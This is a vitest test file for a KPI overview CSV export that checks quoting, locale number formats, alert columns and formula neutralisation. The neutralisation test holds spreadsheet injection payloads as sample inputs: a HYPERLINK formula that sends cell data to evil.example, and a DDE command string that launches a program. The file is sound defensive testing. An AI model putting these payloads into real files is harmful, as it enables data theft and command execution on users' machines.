import { describe, expect, it } from "vitest";
import { parseCsv } from "@/lib/csv/parse";
import { buildOverview, type KpiDefinition, overviewLayout } from "./overview";
import { neutraliseFormula, overviewCsv } from "./overview-csv";

const kpi: KpiDefinition = {
  id: 1,
  name: "Reichweite; gesamt",
  unit: "percent",
  direction: "higher_is_better",
  period: "month",
  aggregation: "avg",
  target: 3.5,
  warningThreshold: 2.5,
  criticalThreshold: 1.5,
  processId: 1,
  processName: "Markenführung",
  departmentId: 1,
  departmentName: "Marketing",
};
const labels = {
  headers: {
    department: "Abteilung",
    process: "Prozess",
    kpi: "Kennzahl",
    unit: "Einheit",
    value: "Ist",
    target: "Ziel",
    status: "Status",
    alert: "Warnung",
    alertSince: "Warnung seit",
    overall: "Gesamtstatus",
    trend: "Trend",
    previousValue: "Vorperiode",
    previousStatus: "Status Vorperiode",
  },
  unit: (u: string) => u,
  status: (s: string) => s,
  trend: (t: string) => t,
};

describe("overviewCsv", () => {
  const o = buildOverview([kpi], [{ kpiId: 1, start: "2026-05-01", sum: 5.5, count: 2, last: null }], overviewLayout("2026-05-15", "quarter"), "2026-05-15");
  it("writes German CSV that our own importer reads back, quoting separators", () => {
    const text = overviewCsv(o.departments, { locale: "de", compare: true, labels });
    const back = parseCsv(new TextEncoder().encode(text));
    expect(back.ok).toBe(true);
    if (!back.ok) return;
    expect(back.table.delimiter).toBe(";");
    expect(back.table.rows[0].values).toMatchObject({ kennzahl: "Reichweite; gesamt", ist: "2,75", ziel: "3,5", status: "within_tolerance", vorperiode: "" });
  });
  it("leaves out the comparison when it is not shown, and uses commas in English", () => {
    const text = overviewCsv(o.departments, { locale: "en", compare: false, labels });
    expect(text.split("\r\n")[0]).toBe("Abteilung,Prozess,Kennzahl,Einheit,Ist,Ziel,Status,Warnung,Warnung seit,Gesamtstatus,Trend");
    expect(text).toContain("2.75");
  });

  it("carries the open alert and the overall status on the KPI's row", () => {
    const alert = { id: 3, severity: "critical", status: "open", periodStart: "2026-05-01", since: "2026-04-01", value: 1 } as const;
    const withAlert = buildOverview([kpi], [], overviewLayout("2026-05-15", "quarter"), "2026-05-15", new Map([[1, alert]]));
    const back = parseCsv(new TextEncoder().encode(overviewCsv(withAlert.departments, { locale: "de", compare: false, labels })));
    if (!back.ok) throw new Error("unreadable");
    expect(back.table.rows[0].values).toMatchObject({ status: "no_data", warnung: "critical", "warnung seit": "2026-04-01", gesamtstatus: "critical" });
  });

  it("neutralises cells a spreadsheet would run as formulas, and leaves numbers alone", () => {
    for (const evil of ['=HYPERLINK("http://evil.example/?d="&C3;"Details")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2", "\tx", "\rx"]) {
      expect(neutraliseFormula(evil)).toBe(`'${evil}`);
    }
    expect(neutraliseFormula("Reichweite")).toBe("Reichweite");
    const evilKpi = { ...kpi, name: "=1+1", processName: "@cmd" };
    const text = overviewCsv(buildOverview([evilKpi], [{ kpiId: 1, start: "2026-05-01", sum: -5.5, count: 2, last: null }], overviewLayout("2026-05-15", "quarter"), "2026-05-15").departments, {
      locale: "de",
      compare: false,
      labels,
    });
    const row = text.split("\r\n")[1].split(";");
    expect(row[1]).toBe("'@cmd");
    expect(row[2]).toBe("'=1+1");
    expect(row[4]).toBe("-2,75");
  });
});
